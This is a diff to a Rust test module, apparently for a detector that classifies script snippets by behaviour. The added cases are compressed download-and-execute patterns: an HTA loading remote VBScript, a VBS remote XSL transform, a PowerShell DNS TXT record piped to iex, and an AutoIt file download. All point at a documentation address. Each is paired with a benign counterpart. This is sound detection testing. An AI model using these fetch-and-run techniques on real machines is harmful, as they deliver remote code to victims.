@@ -163,6 +163,27 @@ mod tests {
         assert_eq!(deed(Kind::Js, "newactivexobject(\"wscript.shell\")"), None);
         let runs = |text: &str| behaviours.evaluator(Kind::Js, text).is_some();
         assert!(runs("eval(r)") && !runs("newfunction(\"returnthis\")()"));
+        for (kind, text) in [
+            (Kind::Hta, "<scriptsrc=\"http://192.0.2.1/a.vbs\">"),
+            (
+                Kind::Hta,
+                "<iframesrc=\"http://192.0.2.1/a\"application=\"yes\">",
+            ),
+            (
+                Kind::Vbs,
+                "x.load\"http://192.0.2.1/a.xsl\"\nx.transformnodex",
+            ),
+            (Kind::Ps1, "(resolve-dnsname-typetxta).strings|iex"),
+            (Kind::Au3, "urldownloadtofile,http://192.0.2.1/a,b"),
+        ] {
+            assert_eq!(deed(kind, text), Some(Deed::Downloads), "{text}");
+        }
+        assert_eq!(deed(Kind::Hta, "<imgsrc=\"http://192.0.2.1/a.png\">"), None);
+        assert_eq!(
+            deed(Kind::Ps1, "resolve-dnsnamewww.example.com|format-table"),
+            None
+        );
+        assert_eq!(deed(Kind::Vbs, "x.load\"a.xsl\"\nx.transformnodex"), None);
         assert_eq!(
             deed(Kind::Bat, "newactivexobject(\"wscript.shell\").run("),
             None
